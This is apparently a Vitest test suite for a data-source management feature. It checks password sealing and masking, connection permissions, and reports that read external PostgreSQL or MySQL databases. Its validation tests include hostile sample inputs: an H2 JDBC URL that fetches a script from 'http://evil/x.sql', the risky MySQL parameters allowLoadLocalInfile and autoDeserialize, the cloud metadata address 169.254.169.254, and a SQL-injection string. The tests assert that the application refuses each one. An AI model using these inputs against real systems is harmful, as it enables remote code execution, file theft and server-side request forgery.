import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import pg from 'pg';
import { DATA_SOURCE_TEXT, type PageResult, type RecordVersion, type ReportColumnsAnswer, type ReportDataAnswer } from '@foodtrace/contracts';
import { newId } from '../src/platform/db/ids.ts';
import { reportDb } from '../src/modules/online-report/schema.ts';
import { dataSourceDb } from '../src/modules/data-source/schema.ts';
import { databaseTargets, eventually, startApp, type TestApp } from './harness.ts';
import { readBook } from './workbook.ts';

type Row = Record<string, unknown>;
const PASSWORD = 'Reader#2026-ds';

/** A data source as the form sends it. */
const source = (code: string, over: Row = {}): Row => ({
  code, name: `数据源 ${code}`, dbType: 'mysql', dbUrl: 'jdbc:mysql://127.0.0.1:3306/erp?useSSL=false&serverTimezone=Asia/Shanghai',
  dbUsername: 'reader', dbPassword: PASSWORD, remark: null, ...over,
});

describe.each(databaseTargets())('数据源管理 on $name', (target) => {
  let t: TestApp;
  let admin: string;
  let viewer: string;
  beforeAll(async () => {
    t = await startApp(target);
    admin = await t.login();
    await t.createUser('ds_viewer', 'Viewer#pass-1', ['system:dataSource:list', 'system:dataSource:queryById']);
    viewer = await t.login('ds_viewer', 'Viewer#pass-1');
  });
  afterAll(async () => { await t?.close(); });

  const add = (body: Row) => t.call<Row>('POST', '/sys/dataSource/add', { token: admin, body });
  const test = (body: Row, token = admin) => t.call('POST', '/sys/dataSource/testConnection', { token, body });
  const stored = (id: string) => dataSourceDb(t.ctx.db).selectFrom('sysDataSource').select('dbPassword').where('id', '=', id).executeTakeFirstOrThrow();

  it('stores the password sealed and never sends it back: not in the list, the detail, the export or the data log', async () => {
    const added = await add(source('erp_stock'));
    expect(added.body.success, JSON.stringify(added.body)).toBe(true);
    const id = added.body.result.id as string;
    expect(added.body.result).not.toHaveProperty('dbPassword');
    const sealed = (await stored(id)).dbPassword;
    expect(sealed).toMatch(/^v1\./);
    expect(sealed).not.toContain(PASSWORD);
    expect(t.ctx.secrets.open(sealed)).toBe(PASSWORD);

    const list = await t.call<PageResult<Row>>('GET', '/sys/dataSource/list', { token: viewer, query: { code: 'erp_stock' } });
    expect(list.body.result.records).toHaveLength(1);
    expect(JSON.stringify(list.body.result)).not.toMatch(new RegExp(`${PASSWORD}|v1\\.`));
    const detail = await t.call<Row>('GET', '/sys/dataSource/queryById', { token: viewer, query: { id } });
    expect(detail.body.result).toMatchObject({ code: 'erp_stock', dbUsername: 'reader', dbType_dictText: 'MySQL / MariaDB' });
    expect(detail.body.result).not.toHaveProperty('dbPassword');
    // nor can it be searched for (a filter on it is not a filter at all)
    expect((await t.call('GET', '/sys/dataSource/list', { token: admin, query: { dbPassword: `${PASSWORD.slice(0, 4)}*` } })).body).toMatchObject({ success: true });

    const book = await t.app.inject({ method: 'GET', url: '/api/sys/dataSource/exportXls', query: { code: 'erp_stock' }, headers: { 'x-access-token': admin } });
    const rows = await readBook(book.rawPayload);
    expect(rows[0]).not.toContain('密码');
    expect(JSON.stringify(rows)).not.toContain(PASSWORD);
    expect(JSON.stringify(rows)).toContain('erp_stock');

    // an edit that leaves the password blank keeps it; a new one is sealed afresh
    expect((await t.call('PUT', '/sys/dataSource/edit', { token: admin, body: { id, name: '库存库', dbPassword: '' } })).body.success).toBe(true);
    expect((await stored(id)).dbPassword).toBe(sealed);
    expect((await t.call('PUT', '/sys/dataSource/edit', { token: admin, body: { id, dbPassword: 'Another#pass-9' } })).body.success).toBe(true);
    const resealed = (await stored(id)).dbPassword;
    expect(resealed).not.toBe(sealed);
    expect(t.ctx.secrets.open(resealed)).toBe('Another#pass-9');

    const log = await t.ctx.db.selectFrom('sysDataLog').select('dataContent').where('dataId', '=', id).orderBy('dataVersion').execute();
    expect(log).toHaveLength(3);
    for (const v of log) expect(v.dataContent).not.toMatch(new RegExp(`${PASSWORD}|Another#pass|v1\\.`));
    expect(log[2].dataContent).toMatch(/"dbPassword":"sealed:[0-9a-f]{12}"/);
    // the operation log keeps the request with the password masked
    const logged = () => t.ctx.db.selectFrom('sysLog').select('requestParam').where('requestUrl', 'like', '%/sys/dataSource/%').execute();
    // written after each answer has gone out: the last edit's may still be on its way
    const ops = await eventually(logged, (rows) => rows.length >= 3);
    expect(ops.length).toBeGreaterThanOrEqual(3);
    for (const op of ops) expect(op.requestParam ?? '').not.toMatch(new RegExp(`${PASSWORD}|Another#pass`));
    const history = await t.call<RecordVersion[]>('GET', '/sys/dataSource/dataLog', { token: admin, query: { id } });
    // the history says the password was replaced, and nothing of either password
    expect(history.body.result.map((v) => v.changes.map((c) => [c.field, c.before, c.after]))).toEqual([
      [['dbPassword', '******', '已更换']], [['name', '数据源 erp_stock', '库存库']], [],
    ]);
  });

  it('refuses an address that is malformed, carries an account or an unknown parameter, or does not suit the type', async () => {
    const refused = async (over: Row) => (await add(source(`bad_${randomBytes(3).toString('hex')}`, over))).body;
    expect(await refused({ dbUrl: 'mysql:127.0.0.1/erp' })).toMatchObject({ success: false, message: `dbUrl: ${DATA_SOURCE_TEXT.badUrl}` });
    expect(await refused({ dbUrl: 'jdbc:mysql://root:secret@127.0.0.1:3306/erp' })).toMatchObject({ message: `dbUrl: ${DATA_SOURCE_TEXT.credentialsInUrl}` });
    expect(await refused({ dbUrl: 'jdbc:mysql://127.0.0.1:3306/erp?allowLoadLocalInfile=true' })).toMatchObject({ message: `dbUrl: ${DATA_SOURCE_TEXT.badParam('allowLoadLocalInfile')}` });
    expect(await refused({ dbUrl: 'jdbc:mysql://127.0.0.1:3306/erp?autoDeserialize=true' })).toMatchObject({ message: `dbUrl: ${DATA_SOURCE_TEXT.badParam('autoDeserialize')}` });
    expect(await refused({ dbUrl: 'jdbc:h2:mem:test;INIT=RUNSCRIPT FROM \'http://evil/x.sql\'' })).toMatchObject({ message: `dbUrl: ${DATA_SOURCE_TEXT.badUrl}` });
    expect(await refused({ dbUrl: 'jdbc:postgresql://127.0.0.1:5432/erp' })).toMatchObject({ message: DATA_SOURCE_TEXT.typeMismatch('MySQL / MariaDB') });
    expect(await refused({ dbPassword: '' })).toMatchObject({ message: 'dbPassword: 请输入密码' });
    // an edit is held to the same rule, over what it leaves as it was
    const id = (await add(source('erp_edit'))).body.result.id as string;
    expect((await t.call('PUT', '/sys/dataSource/edit', { token: admin, body: { id, dbType: 'postgresql' } })).body)
      .toMatchObject({ success: false, message: DATA_SOURCE_TEXT.typeMismatch('PostgreSQL') });
  });

  it('测试连接 has a permission of its own, and is logged as a query', async () => {
    expect((await test(source('x'), viewer)).status).toBe(403);
    expect((await t.call('POST', '/sys/dataSource/testConnection', { body: source('x') })).status).toBe(401);
    await test({ ...source('x'), dbUrl: 'jdbc:mysql://169.254.169.254:3306/x' });
    const row = await eventually(() => t.ctx.db.selectFrom('sysLog').select(['logContent', 'operateType', 'requestParam'])
      .where('requestUrl', '=', '/api/sys/dataSource/testConnection').where('username', '=', 'admin').executeTakeFirst(), Boolean);
    expect(row).toMatchObject({ operateType: 1 });
    expect(row!.logContent).toMatch(/^测试连接.*失败/);
    expect(row!.requestParam).toContain('"dbPassword":"******"');
  });

  it('never connects to a link-local, unspecified or multicast address, and says why a connection failed', async () => {
    const tried = async (dbUrl: string) => (await test({ ...source('x'), dbUrl })).body;
    expect(await tried('jdbc:mysql://169.254.169.254:3306/x')).toMatchObject({ success: false, message: DATA_SOURCE_TEXT.failed(DATA_SOURCE_TEXT.blockedHost) });
    expect(await tried('jdbc:mysql://[::ffff:169.254.169.254]:3306/x')).toMatchObject({ message: DATA_SOURCE_TEXT.failed(DATA_SOURCE_TEXT.blockedHost) });
    expect(await tried('jdbc:mysql://0.0.0.0:3306/x')).toMatchObject({ message: DATA_SOURCE_TEXT.failed(DATA_SOURCE_TEXT.blockedHost) });
    expect(await tried('jdbc:mysql://224.0.0.1:3306/x')).toMatchObject({ message: DATA_SOURCE_TEXT.failed(DATA_SOURCE_TEXT.blockedHost) });
    expect(await tried('jdbc:mysql://no-such-host.invalid:3306/x')).toMatchObject({ message: DATA_SOURCE_TEXT.failed('找不到主机“no-such-host.invalid”') });
    expect(await tried('jdbc:mysql://127.0.0.1:1/x')).toMatchObject({ message: DATA_SOURCE_TEXT.failed('127.0.0.1:1 拒绝连接（该端口没有数据库服务）') });
    expect(await tried('jdbc:postgresql://127.0.0.1:5432/x')).toMatchObject({ message: DATA_SOURCE_TEXT.typeMismatch('MySQL / MariaDB') });
    // a form without a password tests only a saved source (with the stored one)
    expect((await test({ ...source('x'), dbPassword: '' })).body).toMatchObject({ success: false, message: DATA_SOURCE_TEXT.passwordRequired });
  });
});

/** The account and the parts of a test server's URL. */
function serverOf(url: string) {
  const u = new URL(url);
  return { host: u.hostname, port: Number(u.port), database: u.pathname.slice(1) };
}

/**
 * A report reading another database through a data source, the application itself on SQLite: the report's
 * table lives only on the other server, read with an account that may only read it.
 */
describe.each([
  { kind: 'postgresql' as const, url: process.env.TEST_PG_URL },
  { kind: 'mysql' as const, url: process.env.TEST_MYSQL_URL },
].filter((s) => s.url))('a report on a $kind data source', ({ kind, url }) => {
  const server = serverOf(url!);
  const table = `ds_probe_${randomBytes(4).toString('hex')}`;
  const reader = `ft_ds_reader`;
  let t: TestApp;
  let admin: string;
  let dsId: string;
  let reportId: string;
  const admin$ = { exec: async (_sql: string) => {} };

  beforeAll(async () => {
    if (kind === 'postgresql') {
      const client = new pg.Client({ connectionString: url });
      await client.connect();
      admin$.exec = async (q) => { await client.query(q); };
      afterAll(() => client.end());
      await admin$.exec(`do $$ begin create role ${reader} login password '${PASSWORD}'; exception when duplicate_object then null; end $$`);
      await admin$.exec(`create table public.${table} (id int primary key, name varchar(50), made_at timestamptz, made_on date)`);
      await admin$.exec(`grant select on public.${table} to ${reader}`);
      await admin$.exec(`insert into public.${table} values (1, '全脂牛奶', '2026-11-27 02:30:00+00', '2026-11-27'), (2, '脱脂牛奶', '2026-11-26 23:00:00+00', '2026-11-26'), (3, '酸奶', null, null)`);
    } else {
      const mysql = await import('mysql2/promise');
      const conn = await mysql.createConnection({ uri: url });
      admin$.exec = async (q) => { await conn.query(q); };
      afterAll(() => conn.end());
      for (const host of ['%', 'localhost', '127.0.0.1']) {
        await admin$.exec(`create user if not exists '${reader}'@'${host}' identified by '${PASSWORD}'`);
      }
      await admin$.exec(`create table ${table} (id int primary key, name varchar(50), made_at datetime, made_on date) character set utf8mb4`);
      for (const host of ['%', 'localhost', '127.0.0.1']) await admin$.exec(`grant select on ${server.database}.${table} to '${reader}'@'${host}'`);
      await admin$.exec(`insert into ${table} values (1, '全脂牛奶', '2026-11-27 10:30:00', '2026-11-27'), (2, '脱脂牛奶', '2026-11-27 07:00:00', '2026-11-26'), (3, '酸奶', null, null)`);
    }
    t = await startApp({ name: 'sqlite' });
    admin = await t.login();
    const dbUrl = kind === 'postgresql' ? `jdbc:postgresql://${server.host}:${server.port}/${server.database}` : `jdbc:mysql://${server.host}:${server.port}/${server.database}?useUnicode=true&characterEncoding=UTF-8`;
    const added = await t.call<Row>('POST', '/sys/dataSource/add', { token: admin, body: source('dairy_erp', { dbType: kind, dbUrl, dbUsername: reader }) });
    expect(added.body.success, JSON.stringify(added.body)).toBe(true);
    dsId = added.body.result.id as string;
    const rdb = reportDb(t.ctx.db);
    reportId = newId();
    await rdb.insertInto('onlCgreportHead').values({
      id: reportId, code: 'dairy_products', name: '乳品清单', cgrSql: `select id, name, made_at, made_on from ${table}`, dbSource: 'dairy_erp',
      content: null, delFlag: 0, createBy: 'test', createTime: Date.now(), updateBy: null, updateTime: null,
    }).execute();
    const item = (field: string, label: string, type: string, orderNum: number, isQuery = 0) => ({
      id: newId(), headId: reportId, field, label, type, dictCode: null, isQuery, queryMode: type === 'datetime' ? 'group' : 'single', isShow: 1, orderNum,
      createBy: 'test', createTime: Date.now(), updateBy: null, updateTime: null,
    });
    await rdb.insertInto('onlCgreportItem').values([item('id', '编号', 'int', 1), item('name', '品名', 'string', 2, 1), item('made_at', '生产时间', 'datetime', 3, 1), item('made_on', '生产日期', 'date', 4)]).execute();
  });
  afterAll(async () => {
    await t?.close();
    await admin$.exec(`drop table ${kind === 'postgresql' ? 'public.' : ''}${table}`);
  });

  const data = (query: Record<string, string> = {}) => t.call<ReportDataAnswer>('GET', `/online/cgreport/api/getData/${reportId}`, { token: admin, query });
  const test = (body: Row) => t.call('POST', '/sys/dataSource/testConnection', { token: admin, body });

  it('测试连接 connects with the form, or with the stored password of a saved source, and names the server', async () => {
    const row = (await t.call<Row>('GET', '/sys/dataSource/queryById', { token: admin, query: { id: dsId } })).body.result;
    const saved = await test({ ...row, id: dsId, dbPassword: '' });
    expect(saved.body.success, JSON.stringify(saved.body)).toBe(true);
    expect(saved.body.message).toMatch(kind === 'postgresql' ? /^连接成功：PostgreSQL \d+\.\d+（\d+ ms）$/ : /^连接成功：(MariaDB|MySQL) \d+\.\d+\.\d+（\d+ ms）$/);
    expect((await test({ ...row, dbPassword: PASSWORD })).body.success).toBe(true);
    expect((await test({ ...row, dbUrl: String(row.dbUrl).replace(`/${server.database}`, '/no_such_db_ft') })).body.message)
      .toBe(DATA_SOURCE_TEXT.failed(kind === 'postgresql' ? '数据库“no_such_db_ft”不存在' : `用户“${reader}”无权访问数据库“no_such_db_ft”`));
    // PostgreSQL on this machine trusts local connections whatever the password; MariaDB checks it
    if (kind === 'mysql') expect((await test({ ...row, dbPassword: 'wrong' })).body.message).toBe(DATA_SOURCE_TEXT.failed('用户名或密码错误'));
  });

  it('reads the report from the other database: columns, filters, sorting, paging, dates in the application zone', async () => {
    const columns = await t.call<ReportColumnsAnswer>('GET', '/online/cgreport/api/getRpColumns/dairy_products', { token: admin });
    expect(columns.body.result.columns.map((c) => c.dataIndex)).toEqual(['id', 'name', 'made_at', 'made_on']);
    const all = await data({ column: 'id', order: 'asc' });
    expect(all.body.success, JSON.stringify(all.body)).toBe(true);
    expect(all.body.result.total).toBe(3);
    const [first, second, third] = all.body.result.records;
    // timestamptz is an instant: shown in Asia/Shanghai; a plain datetime is shown as stored
    expect(first).toMatchObject({ id: 1, name: '全脂牛奶', made_at: '2026-11-27 10:30:00', made_on: '2026-11-27' });
    expect(second).toMatchObject({ id: 2, made_at: '2026-11-27 07:00:00', made_on: '2026-11-26' });
    expect(third).toMatchObject({ id: 3, made_at: null, made_on: null });
    expect((await data({ name: '*牛奶*', column: 'id', order: 'desc' })).body.result.records.map((r) => r.id)).toEqual([2, 1]);
    expect((await data({ made_at_begin: '2026-11-27 08:00:00', made_at_end: '2026-11-27' })).body.result.records.map((r) => r.id)).toEqual([1]);
    expect((await data({ pageSize: '1', pageNo: '2', column: 'id', order: 'asc' })).body.result.records.map((r) => r.id)).toEqual([2]);
    expect((await data({ name: "x' or '1'='1" })).body.result.total).toBe(0);
  });

  it('keeps a source a report reads: its code fixed, no delete; a changed password takes effect at the next report', async () => {
    const listed = (await t.call<Row>('GET', '/sys/dataSource/queryById', { token: admin, query: { id: dsId } })).body.result;
    expect(listed._inUse).toBe(DATA_SOURCE_TEXT.codeInUse);
    expect(listed._noDelete).toBe(DATA_SOURCE_TEXT.inUse(['报表【乳品清单】']));
    expect((await t.call('DELETE', '/sys/dataSource/delete', { token: admin, query: { id: dsId } })).body).toMatchObject({ success: false, message: DATA_SOURCE_TEXT.inUse(['报表【乳品清单】']) });
    expect((await t.call('PUT', '/sys/dataSource/edit', { token: admin, body: { id: dsId, code: 'renamed_erp' } })).body.success).toBe(false);

    if (kind === 'mysql') {
      await t.call('PUT', '/sys/dataSource/edit', { token: admin, body: { id: dsId, dbPassword: 'wrong-now' } });
      await new Promise((r) => setTimeout(r, 5)); // the report cache is per parameters: ask for a new page
      expect((await data({ pageSize: '2' })).body).toMatchObject({ success: false, message: '报表【乳品清单】查询数据源【dairy_erp】失败，请联系管理员检查数据源和报表配置' });
      await t.call('PUT', '/sys/dataSource/edit', { token: admin, body: { id: dsId, dbPassword: PASSWORD } });
      expect((await data({ pageSize: '3' })).body.result.total).toBe(3);
    }
  });
});
